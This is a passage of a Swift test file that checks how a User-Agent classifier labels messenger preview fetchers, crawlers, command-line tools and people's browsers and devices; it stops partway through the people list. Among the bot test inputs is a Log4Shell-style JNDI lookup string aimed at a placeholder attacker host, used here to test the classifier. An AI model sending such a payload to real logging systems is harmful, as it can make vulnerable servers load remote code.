import Testing

@testable import LinkCore

/// Pins the verdict for each family the product depends on, with a real
/// User-Agent for each, so a rule edit that breaks one fails by name.
@Suite("User-Agent families")
struct UserAgentFamilyTests {
    let classifier = UserAgentClassifier.standard

    static let previewAgents: [(String, Platform)] = [
        ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", .other),
        ("Slack-ImgProxy (+https://api.slack.com/robots)", .other),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 "
                + "Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0", .other
        ),  // iMessage
        ("WhatsApp/2.19.31 i", .ios),
        ("WhatsApp/2.16.20/i", .ios),
        ("WhatsApp/2.17.190 A", .android),
        ("WhatsApp/2.18.46 Android/6.0.1 Device/Xiaomi-Redmi_3S", .android),
        ("WhatsApp/2.2230.15 N", .other),
        ("WhatsApp/2", .other),  // Signal
        ("TelegramBot (like TwitterBot)", .other),
        ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", .other),
        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", .other),
        ("Twitterbot/1.0", .other),
        ("LinkedInBot/1.0 (compatible; Mozilla/5.0; Jakarta Commons-HttpClient/3.1 +http://www.linkedin.com)", .other),
        ("Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5", .other),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/56.0.2924.87 Safari/537.36 "
                + "Google (+https://developers.google.com/+/web/snippet/)", .other
        ),
        ("Viber", .other),
        ("facebookexternalhit/1.1;line-poker/1.0", .other),
        ("facebookexternalhit/1.1;kakaotalk-scrap/1.0; +https://devtalk.kakao.com/t/scrap/33984", .other),
        ("Pinterest/0.2 (+https://www.pinterest.com/bot.html)", .other),
        ("http.rb/4.4.1 (Mastodon/3.3.0; +https://example.social/) Bot", .other),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app) "
                + "Chrome/W.X.Y.Z Safari/537.36", .other
        ),
        ("Mozilla/5.0 (compatible; Embedly/0.2; +http://support.embed.ly/)", .other),
        ("Iframely/1.3.1 (+https://iframely.com/docs/about)", .other),
        // Issue 15 families: fetchers outside the big messengers, and WhatsApp's desktop (Electron) app.
        ("Misskey/2023.12.2 (https://misskey.example)", .other),
        ("Lemmy/0.19.3; +https://lemmy.example", .other),
        ("Synapse (bot; +https://github.com/matrix-org/synapse)", .other),
        ("Discourse Forum Onebox v3.2.0", .other),
        ("Mozilla/5.0 (compatible; ZulipURLPreview/7.0; +https://zulip.example)", .other),
        (
            "Mozilla/5.0 (compatible; Yahoo Link Preview; https://help.yahoo.com/kb/mail/yahoo-link-preview-SLN23615.html)",
            .other
        ),
        ("Bluesky Cardyb/1.1", .other),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) WhatsApp/2.2343.5 "
                + "Chrome/120.0.6099.291 Electron/28.2.10 Safari/537.36", .other
        ),
        // Issue 15, second pass: fetchers as their makers document them (apiok.ru, keybase/client).
        ("Mozilla/5.0 (compatible; OdklBot/1.0 like Linux; klass@odnoklassniki.ru)", .other),
        ("Mozilla/5.0 (compatible; Keybase; +https://keybase.io)", .other),
        // Issue 15, fourth pass: a fetcher that names the page metadata it retrieves and nothing else.
        ("Listenwell/2.0 LinkMetadataRetriever", .other),
        // Issue 15, fifth pass: Apple's share sheet fetching the card of a link someone is sharing.
        ("SharingUIService/1 CFNetwork/1496.0.7 Darwin/23.5.0", .other),
        ("ShareSheetUI/1 CFNetwork/1496.0.1 Darwin/23.5.0", .other),
        ("com.apple.mobilenotes.SharingExtension/2600 CFNetwork/1496.0.7 Darwin/23.5.0", .other),
        // Issue 15, seventh pass: Rocket.Chat's server, as its source builds the string (its desktop app is a person).
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2227.0 Safari/537.36 "
                + "Rocket.Chat/6.6.0", .other
        ),
        // Issue 15, seventh pass: servers' card fetchers as their sources build them (reference-agents.tsv).
        ("Nextcloud-Server-Crawler/33.0.0", .other),
        ("Nextcloud-Server-Crawler/33.0.0; +https://cloud.example.com", .other),
        ("continuwuity/0.5.0 (embedbot; +https://continuwuity.org)", .other),
        ("Tuwunel/1.0.0", .other),
        ("Mbin/1.9.1 (+https://mbin.example/agent)", .other),
        ("Mozilla/5.0 (compatible; Fluxerbot/1.0; +https://fluxer.app)", .other),
        ("Mozilla/5.0 (compatible; Ghost/5.0; +https://ghost.org/)", .other),
        ("PieFed/1.0; +https://piefed.social", .other),
        ("Mozilla/5.0 (compatible; Spacebar/1.0; +https://github.com/spacebarchat/server)", .other),
        ("Mozilla/5.0 (compatible; AnytypeBot/1.0; +https://anytype.io/bot)", .other),
        ("GNU social/1.2.0-beta2 (Not decided yet)", .other),
        ("WhatsApp", .other),  // Session's desktop app
        ("Buku/4.9 (textmode; Linux x86_64; 1024x768)", .other),
        // Issue 15, eighth pass: chat clients' link cards and tooltips, and Zulip's fetcher in its older
        // browser-like form (their sources: reference-agents.tsv and the rules file).
        ("Halloy/2026.8", .other),
        ("chatterino-api-cache/4.0.0 link-resolver", .other),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ZulipURLPreview/3.4; +chat.example.org) "
                + "Chrome/81.0.4044.113 Safari/537.36", .other
        ),
        // ... WordPress's editor, and the servers' card fetchers an audit of the bare-brand rules found.
        ("WP-URLDetails/6.7.1 (+https://example.com)", .other),
        ("OpenGraphReader/0.9.1 (+https://github.com/jhass/open_graph_reader)", .other),  // diaspora*'s cards
        ("Mozilla/5.0 (compatible; zot)", .other),  // Hubzilla's
        ("summaly/2.2.0", .other),  // Misskey's, before SummalyBot
        // Notion's desktop app loads a page only when a note embeds it: a card, as the bare brand says.
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Notion/2.0.41 "
                + "Chrome/102.0.5005.167 Electron/19.1.9 Safari/537.36", .other
        ),
        // Issue 15, ninth pass: Nostr, Farcaster and Status clients drawing a posted link's card
        // (reference-agents.tsv).
        ("Amethyst/1.14.0", .other),
        ("Amethyst-Desktop/thumbnail", .other),
        ("Mozilla/5.0 (compatible; HerocastBot/1.0; +https://herocast.xyz)", .other),
        ("status-go/v0.151.15", .other),
        // Issue 15, tenth pass: zxing's Barcode Scanner fetching a scanned link's page title (zxing's source).
        ("ZXing (Android)", .other),
        // Issue 15, eleventh pass: a Misskey fork, an XMPP client's URL previews and a forum's rich embeds, each by
        // its own source (reference-agents.tsv).
        ("CherryPick/4.11.1 (https://cherrypick.example)", .other),
        ("Gajim 1.5.3", .other),
        ("vanilla-forums-embed/1.0", .other),
        // Issue 15, seventeenth pass: Spacebar's embed fetcher under its name before 2023 (spacebarchat/server).
        ("Mozilla/5.0 (compatible; Fosscord/1.0; +https://github.com/fosscord/fosscord)", .other),
    ]

    @Test("preview fetchers draw cards, with the OS only for on-device WhatsApp", arguments: previewAgents)
    func previewFetchers(userAgent: String, platform: Platform) {
        #expect(classifier.classify(userAgent) == UserAgentClass(label: .preview, platform: platform))
    }

    static let botAgents: [String] = [
        "",
        "curl/8.5.0",
        "Wget/1.21.3",
        "python-requests/2.31.0",
        "Go-http-client/1.1",
        "okhttp/4.12.0",
        "PostmanRuntime/7.36.0",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
            + "Chrome/120.0.6099.71 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36",
        "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
        "Facebot",
        "${jndi:ldap://attacker.example/a}",
        "Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)",
        // Issue 15 families: Office link probes, download managers, monitors, CFNetwork tools.
        "Mozilla/4.0 (compatible; ms-office; MSOffice 16)",
        "Microsoft Office Word 2014",
        "AndroidDownloadManager/9 (Linux; U; Android 9; SM-G960F Build/PPR1.180610.011)",
        "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
            + "Safari/537.36 Site24x7",
        "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
        "LinkTester/3 CFNetwork/1410.0.3 Darwin/22.6.0",
        "meta-externalfetcher/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
        "facebookcatalog/1.0",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google Web Preview) Chrome/84.0 "
            + "Safari/537.36",
        // Issue 15, second pass: Google's "-Google" crawlers, feed fetchers' subscriber counts, Office's discovery
        // requests, a Mac comment with no OS version, CFNetwork processes with no bundle, tools by their job.
        "APIs-Google (+https://developers.google.com/webmasters/APIsGoogle.html)",
        "NewsBlur Feed Fetcher - 42 subscribers - https://www.newsblur.com/site/1/example",
        "Microsoft Office Existence Discovery",
        "Microsoft Office Protocol Discovery",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X) Newsreader/2.1",
        "linkcheck (unknown version) CFNetwork/1494.0.7 Darwin/23.4.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
            + "Safari/537.36 CookieScan/1.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
            + "Safari/537.36 (Acme Probe Agent)",
        // Issue 15, fourth pass: "metadata" is a weak preview word; a bot token beside it still decides.
        "twine/5.0.0 importlib_metadata/7.0.1 pkginfo/1.10.0 requests/2.31.0 CPython/3.12.1",
        "ListenwellMetadataBot/1.0 (+https://listenwell.example/bot)",
        // Issue 15, fifth pass (attack): tools that name their OS and no tool word: a site copier, a download
        // accelerator, an availability monitor, an API client by its request library.
        "Mozilla/4.5 (compatible; HTTrack 3.0x; Windows 98)",
        "Axel/2.17.11 (Linux)",
        "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; AppInsights)",
        "Paw/3.4.0 (Macintosh; OS X/14.2.1) GCDHTTPRequest",
        // Issue 15, fifth pass: the same words as tokens of their own.
        "URL-Checker/2.0 CFNetwork/1410.0.3 Darwin/22.6.0",
        "Acme SEO Audit/1.0 (Macintosh; Mac OS X 10_15_7)",
        "Route 53 Health Check Service",
        // Issue 15, fifth pass: a server's job outweighs the podcast and player words of its name.
        "Listenwell/1.0 Podcast Sync (+https://listenwell.example/)",
        "Listenwell Podcast Importer/2.1 (+https://listenwell.example/import)",
        "Mozilla/5.0 (compatible; ListenwellPodcastCrawler/1.0)",
        "listenwell-podcast-downloader/0.3",
        "RadioListenwell Stream Monitor/1.0",
        "Podcastindex.org/v0.4.0 (Listenwell)",
        // Issue 15, fifth pass: a crawler that sends an Android comment names itself outside the model, and counts.
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; "
            + "Bytespider; spider-feedback@bytedance.com)",
        "Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3.170816.012; Storebot-Google/1.0) AppleWebKit/537.36 "
            + "(KHTML, like Gecko) Chrome/81.0.4044.138 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 4.1.2; Galaxy Nexus Build/JZO54K; GTmetrix https://gtmetrix.com/) "
            + "AppleWebKit/537.22 (KHTML, like Gecko) Chrome/26.0.1410.58 Mobile Safari/537.22",
        "Mozilla/5.0 (Linux; Android 11; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
            + "Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
        // ... and one that names itself, version and all, in the model field is software, not a phone.
        "Mozilla/5.0 (Linux; Android 13; AhrefsBot/7.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
            + "Mobile Safari/537.36",
        // Issue 15, seventh pass: renderers, test browsers and a scanner that borrow a browser's string and add their
        // own name, as their sources give it (reference-agents.tsv); and an API tool named like a Lemmy app.
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/602.1 (KHTML, like Gecko) splash Version/9.0 Safari/602.1",
        "Mozilla/5.0 (darwin) AppleWebKit/537.36 (KHTML, like Gecko) jsdom/22.1.0",
        "Mozilla/5.0 (win32) AppleWebKit/537.36 (KHTML, like Gecko) jsdom/22.1.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Cypress/13.6.0 "
            + "Chrome/118.0.5993.159 Electron/27.1.3 Safari/537.36",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; w3af.org)",
        "Thunder Client (https://www.thunderclient.com)",
        // Mail providers' and gateways' fetches of a message's links and images (the rules file gives the sources).
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/42.0.2311.135 "
            + "Safari/537.36 Edge/12.246 Mozilla/5.0",
        "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
        "Barracuda Sentinel (EE)",
        "Pleroma Data Loader",
        // A test runner and a scanner named like Ghost's card fetcher.
        "Mozilla/5.0 (X11; Linux x86_64; rv:52.0.2) Gecko/20100101 Firefox/52.0.2 Ghost Inspector",
        "Mozilla/5.0 (compatible; Ghost/1.0)",
        // Issue 15, eighth pass: renderers, page testers and scanners that append their name to a browser string
        // (reference-agents.tsv).
        "Mozilla/5.0 (X11; Linux x86_64; rv:21.0) Gecko/20100101 SlimerJS/0.7",
        "WeasyPrint 69.0",
        "Mozilla/5.0 (Linux; Android 10; SM-G981B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/115.0.5790.98 "
            + "Safari/537.36 Phantomas/2.9.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_6) AppleWebKit/537.36 (KHTML, like Gecko) YLT "
            + "Chrome/85.0.4183.121 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.0.0 "
            + "Safari/537.36 Didomi/1.0",
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0.0.0 Mobile "
            + "Safari/537.36 WebchangeDetector/1.0",
        // Issue 15, ninth pass: an AI agent driving a browser, by the token it appends (reference-agents.tsv).
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 "
            + "Safari/537.36 Agent-NovaAct/0.9",
        // ... and a player's own cover-art lookup, its device's job, not a person's listening.
        "MoodeRadio/9.1.0 ( moode@example.com )",
        // ... and diaspora*'s pod connection tester, the one string of diaspora*'s that names it.
        "diaspora-connection-tester",
        // The brands of card fetchers in their products' other strings: Keybase's CLI and service, Notion's API SDK,
        // continuwuity's federation client.
        "linux:Keybase CLI (go1.21.8):6.4.0",
        "notionhq-client/2.2.15",
        "continuwuity/0.5.0 (bot; +https://continuwuity.org)",
        // A Mac's kernel named by a command-line tool is not a person's Mac; Heroku's CLI is not a Roku.
        "Docker-Client/24.0.7 (darwin)",
        "heroku/8.7.1 darwin-arm64 node-v20.9.0",
        // Bare names the players' rules must not catch: a word inside another name, a server of the same family.
        "deadbeef-cafe-0000",
        "Jellyfin-Server/10.9.11",
        // Issue 15, ninth pass: a podcast host publishing from an instance whose address says "podcast"
        // (reference-agents.tsv), and the same family's servers the podcast apps' rules must not catch:
        // Audiobookshelf's (server/utils/fileUtils.js) and PinePods' (rust-api/src/services/tasks.rs).
        "Castopod/2.0.0-next.3; +https://podcast.example.org/",
        "audiobookshelf (+https://audiobookshelf.org)",
        "PinePods/1.0",
        // ... and names the Watch's and Windows' rules must not catch.
        "Watchdog/2.1",
        "Winkbox/1.0",
        // Issue 15, thirteenth pass: clients that write their OS and CPU in their own format, read as a person's OS
        // before (reference-agents.tsv): Elastic's Beats, Kubernetes' client-go, Docker's engine, Gradle, Grafana
        // Alloy, NuGet (over LINE's " line/"), the AWS and Azure SDKs, Node.js libraries on universal-user-agent.
        "Elastic-Metricbeat/9.1.1 (windows; amd64; 8f3c2e1; 2025-08-01 12:00:00 +0000 UTC; Standalone)",
        "kube-state-metrics/v2.10.1 (linux/amd64) kubernetes/abcdef0",
        "docker/27.3.1 go/go1.22.7 git-commit/41ca978 kernel/6.8.0-45-generic os/linux arch/amd64 "
            + "UpstreamClient(Docker-Client/27.3.1 \\(linux\\))",
        "Gradle/8.10.2 (Mac OS X;14.6.1;aarch64) (Eclipse Adoptium;21.0.4;21.0.4+7-LTS)",
        "Alloy/v1.4.2 (darwin; brew)",
        "NuGet Command Line/6.8.0 (WINDOWS)",
        "NuGet xplat/6.12.1 (LINUX) CI/GitHubActions",
        "aws-sdk-go-v2/1.24.0 os/linux lang/go#1.21.5 md/GOOS#linux md/GOARCH#amd64 api/s3#1.47.7",
        "MyApp/2.0 azsdk-java-azure-storage-blob/12.25.1 (17.0.9; Mac OS X; 14.2.1)",
        "octokit-rest.js/20.0.2 octokit-core.js/5.0.2 Node.js/20 (win32; arm64)",
        "OpenTelemetry Collector/0.96.0 (windows/amd64)",
        "buildkite-agent/3.62.0.x (windows; amd64)",
        "lego-cli/4.16.1 xenolf-acme/4.16.1 (release; linux; arm64)",
        "MinIO (windows; amd64) minio-go/v7.0.70 mc/RELEASE.2024-04-18T16-45-29Z",
        "git-lfs/3.5.1 (GitHub; windows amd64; go 1.22.2)",
        "heroku/9.0.0 linux-x64 node-v20.12.2",
        // ... and the package managers and firmware updaters that name the system they update: libdnf, pacman, snapd,
        // fwupd's clients, WinGet, and Chocolatey by the "Command Line/" that LINE's token held.
        "libdnf (Red Hat Enterprise Linux 9.4; server; Linux.x86_64)",
        "pacman/7.0.0 (Linux aarch64) libalpm/15.0.0",
        "snapd/2.63 (series 16; classic) fedora/40 (amd64) linux/6.8.9",
        "gnome-software/46.1 (Linux x86_64 6.8.9; en-GB; Fedora 40) fwupd/1.9.21",
        "winget-cli WindowsPackageManager/1.7.10661 DesktopAppInstaller/Microsoft.DesktopAppInstaller v1.22.10661.0",
        "Chocolatey Command Line/0.10.15 (Microsoft Windows NT 10.0.19041.0)",
        // Issue 15, fourteenth pass: more tools that write their OS in their own format (reference-agents.tsv): the
        // *arr media managers, Pulumi, Scaleway's SDK, Docker's CLI, the GitHub Actions and Azure Pipelines agents,
        // Composer on PHP's streams, Git for Windows, and Outlook's own requests (its links open in the person's
        // browser).
        "Radarr/5.3.6.8612 (windows 10.0.22631)",
        "Sonarr/4.0.1.929 (debian 12)",
        "Lidarr/2.1.7.4030 (ubuntu 22.04)",
        "Prowlarr/1.12.2.4211 (windows 10.0.20348)",
        "pulumi-cli/1 (v3.100.0; windows)",
        "scaleway-sdk-go/v1.0.0-beta.22 (go1.21.6; windows; amd64) cli-scw/2.26.0",
        "Docker-Client/25.0.0 (windows)",
        "GitHubActionsRunner-win-x64/2.312.0 RunnerId/12 (Microsoft Windows 10.0.20348) VSServices/2.312.0.0 "
            + "(NetStandard; Microsoft Windows 10.0.20348)",
        "VSServices/19.225.34309.1 (NetStandard; Microsoft Windows 10.0.20348) VstsAgentCore-win-x64/3.232.1 "
            + "(Microsoft Windows 10.0.20348)",
        "Composer/2.7.1 (Linux; 6.5.0-14-generic; PHP 8.3.2; streams; Platform-PHP 8.2.0; CI)",
        "git/2.44.0.windows.1",
        "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17231; Pro)",
        // Issue 15, eighteenth pass: a Node.js command-line tool writing the runtime's platform and CPU pair (Gemini
        // CLI, reference-agents.tsv): people on Linux or Windows before. Its VS Code form was a bot already.
        "GeminiCLI/0.9.0/gemini-2.5-pro (linux; x64; terminal)",
        // Node on Linux arm64 (a Raspberry Pi, Graviton, Apple silicon's Linux VMs) writes "arm64": a person on a
        // desktop before.
        "GeminiCLI/0.9.0/gemini-2.5-pro (linux; arm64; terminal)",
        "MyApp/2.0 (linux; arm64; terminal)",
        "GeminiCLI/0.10.0/gemini-2.5-flash (win32; x64; terminal)",
        "GeminiCLI/0.9.0/gemini-2.5-pro (win32; ia32; terminal)",
        "GeminiCLI-a2a-server/0.9.0/gemini-2.5-pro (win32; arm64; terminal)",
        "CloudCodeVSCode/0.9.0 (aidev_client; os_type=Linux; os_version=6.5.0-14-generic; arch=x64; "
            + "host_path=VSCode/1.95.0; proxy_client=geminicli)",
        // AI crawlers and assistants' fetchers acting for a user, as their vendors' bot pages give them: bots, not
        // previews (they draw no card); pinned, they were bots already.
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.1; +https://openai.com/gptbot)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; "
            + "+https://perplexity.ai/perplexity-user)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; MistralAI-User/1.0; +https://docs.mistral.ai/robots)",
        "meta-externalfetcher/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
        "DuckAssistBot/1.2; (+http://duckduckgo.com/duckassistbot.html)",
        "Mozilla/5.0 (compatible; Google-Gemini-CLI/1.0; +https://github.com/google-gemini/gemini-cli)",
    ]

    @Test("crawlers, libraries, CLIs, scanners and empty strings are bots", arguments: botAgents)
    func bots(userAgent: String) {
        #expect(classifier.classify(userAgent) == UserAgentClass(label: .bot, platform: .other))
    }

    static let peopleAgents: [(String, Platform)] = [
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                + "Mobile/15E148 Instagram 323.0.3.23.54 (iPhone14,5; iOS 17_4; en_US; en; scale=3.00; 1170x2532; 563459864)",
            .ios
        ),
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
                + "[FBAN/FBIOS;FBDV/iPhone13,2;FBMD/iPhone;FBSN/iOS;FBSV/16.6;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]",
            .ios
        ),
        (
            "Mozilla/5.0 (Linux; Android 13; SM-S911B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "Version/4.0 Chrome/119.0.6045.163 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/441.0.0.23.105;]", .android
        ),
        (
            "Mozilla/5.0 (Linux; Android 12; SM-A125F Build/SP1A.210812.016; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "Version/4.0 Chrome/118.0.5993.111 Mobile Safari/537.36 musical_ly_2023109030 JsSdk/1.0", .android
        ),
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
                + "Line/13.16.0", .ios
        ),
        (
            "Mozilla/5.0 (Linux; Android 4.2.2; CUBOT GT99 Build/JOP40D) AppleWebKit/535.19 (KHTML, like Gecko) "
                + "Chrome/18.0.1025.166 Mobile Safari/535.19", .android
        ),
        (
            "Mozilla/5.0 (Linux; Android 9; AFTMM) AppleWebKit/537.36 (KHTML, like Gecko) Silk/112.3.1 like Chrome/112.0.5615.213 "
                + "Safari/537.36", .android
        ),  // Fire TV
        (
            "Mozilla/5.0 (Linux; Android 12; BRAVIA 4K VH2 Build/STT1.211025.001.Z4) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "Chrome/114.0.5735.196 Mobile Safari/537.36", .android
        ),  // Android TV
        (
            "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/538.1 (KHTML, like Gecko) Version/6.0 TV Safari/538.1",
            .other
        ),
        (
            "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.79 Safari/537.36",
            .other
        ),
        (
            "Mozilla/5.0 (Mobile; LYF/F300B/LYF-F300B-001-01-15-130718-i;Android; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5",
            .other
        ),
        ("Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)", .other),
        ("Nokia6230/2.0 (04.44) Profile/MIDP-2.0 Configuration/CLDC-1.1", .other),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            .desktop
        ),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 "
                + "Safari/605.1.15", .desktop
        ),
        (
            "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            .desktop
        ),
        ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0", .desktop),
        ("Overcast/3.0 (+http://overcast.fm/; iOS podcast app)", .ios),
        // Issue 15 families: device models named "bot", podcast apps, toolbar-laden old browsers, Electron apps.
        (
            "Mozilla/5.0 (Linux; Android 8.1.0; RoBot Build/O11019) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "Chrome/90.0.4430.91 Mobile Safari/537.36", .android
        ),
        (
            "Mozilla/5.0 (Linux; Android 7.0; M bot 60 Build/NRD90M) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "Chrome/58.0.3029.83 Mobile Safari/537.36", .android
        ),
        ("PocketCasts/7.50 (Android 14)", .android),
        (
            "Mozilla/5.0 (Linux; Android 13; Spider 8 Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36", .android
        ),
        (
            "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; Alexa Toolbar; .NET CLR 2.0.50727)", .desktop
        ),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) discord/1.0.9164 "
                + "Chrome/120.0.6099.291 Electron/28.2.10 Safari/537.36", .desktop
        ),
        (
            "Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36 MetaIAB Facebook", .android
        ),
        // Issue 15, second pass: Chrome's Android device comment outweighs a model named "bot"; iOS as a word; Apple's
        // system processes; "iPad" inside an app's name.
        (
            "Mozilla/5.0 (Linux; Android 12; Hot Bot 5) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
                + "Mobile Safari/537.36", .android
        ),
        ("Podeo/6.1.0 (iOS 17.4)", .ios),
        ("com.apple.appstored/1.0 iOS/17.4 model/iPhone15,2 hwp/t8120 build/21E219 (6; dt:289) AMS/1", .ios),
        ("NewsApp-iPad/3.1 CFNetwork/1494.0.7 Darwin/23.4.0", .ios),
        // Issue 15, third pass: an app's product token naming the OS it was built for, beside a contact URL.
        ("Listenwell/Android App 3.2.1 (https://listenwell.example)", .android),
        ("Listenwell/iOS (https://listenwell.example) 3.2.1", .ios),
        // Issue 15, fifth pass: whatever crawler word a device's model name holds ("Bot-", "Spider", "Crawler"), in
        // the model field of an Android comment it names a phone.
        (
            "Mozilla/5.0 (Linux; Android 9; Bot-Tab 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0.4896.127 "
                + "Safari/537.36", .android
        ),
        (
            "Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
                + "Safari/537.36", .android
        ),
        (
            "Mozilla/5.0 (Linux; U; Android 4.1.1; en-us; Crawler X2 Build/JRO03H) AppleWebKit/534.30 (KHTML, like "
                + "Gecko) Version/4.0 Mobile Safari/534.30", .android
        ),
        ("Dalvik/2.1.0 (Linux; U; Android 10; ScannerPro 5 Build/QP1A.190711.020)", .android),
        ("Mozilla/5.0 (Linux; Android 6.0.1; Spider-J700F/DS Build/MMB29K) AppleWebKit/537.36", .android),
        // Issue 15, fifth pass: a tool's word inside an app's own name ("url" in "Burlesonville", "seo" in
        // "SeoulBus", "health" ending "Elevation_Health") is not the word.
        ("Burlesonville/3 CFNetwork/1410.0.3 Darwin/22.6.0", .ios),
        ("SeoulBus/4.2 CFNetwork/1410.0.3 Darwin/22.6.0", .ios),
